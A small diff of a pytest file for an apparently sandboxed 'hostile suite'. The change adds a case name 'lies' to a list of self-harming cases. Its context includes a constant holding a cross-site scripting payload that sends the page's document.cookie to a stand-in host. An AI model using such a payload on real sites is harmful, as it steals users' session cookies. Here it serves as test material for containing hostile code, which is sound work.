@@ -33,7 +33,7 @@ if PROBLEM and os.environ.get("CI") == "true":
 pytestmark = [pytest.mark.skipif(bool(PROBLEM), reason=f"the hostile suite needs bubblewrap: {PROBLEM}"),
               pytest.mark.xdist_group("hostile")]  # one class, graded once
 
-OWN_HARM = ("patch-everything", "patch-worker")  # who breaks their own Python may lose their own next answer
+OWN_HARM = ("patch-everything", "patch-worker", "lies")  # who breaks their own Python may lose their own next answer
 HONEST = ("00-honest", "flood-pipe-honest", "kill-all-honest", "zz-honest")
 SCRIPT = "<script>document.location='https://example.org/?'+document.cookie</script>"
 
